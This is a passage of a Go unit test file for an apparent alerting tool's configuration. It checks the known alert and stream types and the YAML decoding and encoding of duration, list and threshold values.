	if got := KnownAlertTypes(); !slices.Equal(got, []string{"discord", "email", "ntfy", "pagerduty", "sendgrid", "slack", "stdout", "telegram", "webhook"}) {
		t.Errorf("KnownAlertTypes() = %q", got)
	}
	if got := StreamTypes(); !slices.Equal(got, []string{"websocket", "http", "tcp"}) {
		t.Errorf("StreamTypes() = %q", got)
	}
}

// TestYAMLUnmarshalers: the value types also decode through go-yaml's own
// Unmarshal, for code that reads fragments without Load.
func TestYAMLUnmarshalers(t *testing.T) {
	var r struct {
		Alert     StringList `yaml:"alert"`
		Alerts    StringList `yaml:"alerts"`
		Cooldown  Duration   `yaml:"cooldown"`
		Window    Duration   `yaml:"window"`
		Threshold *Threshold `yaml:"threshold"`
	}
	src := "alert: a\nalerts: [a, b]\ncooldown: 30\nwindow: 1m30s\nthreshold: \"5 in 2s\"\n"
	if err := yaml.Unmarshal([]byte(src), &r); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(r.Alert, StringList{"a"}) || !slices.Equal(r.Alerts, StringList{"a", "b"}) ||
		r.Cooldown != Duration(30*time.Second) || r.Window != Duration(90*time.Second) || *r.Threshold != (Threshold{5, 2 * time.Second}) {
		t.Fatalf("decoded %+v", r)
	}
	if err := yaml.Unmarshal([]byte("threshold: 5 per 2s\n"), &r); err == nil {
		t.Fatal("bad threshold decoded without error")
	}
	out, err := yaml.Marshal(struct {
		T Threshold `yaml:"t"`
		D Duration  `yaml:"d"`
	}{Threshold{3, time.Minute}, Duration(1500 * time.Millisecond)})
	if err != nil || string(out) != "t: 3 in 1m\nd: 1.5s\n" {
		t.Fatalf("marshal = %q, %v", out, err)
	}
}
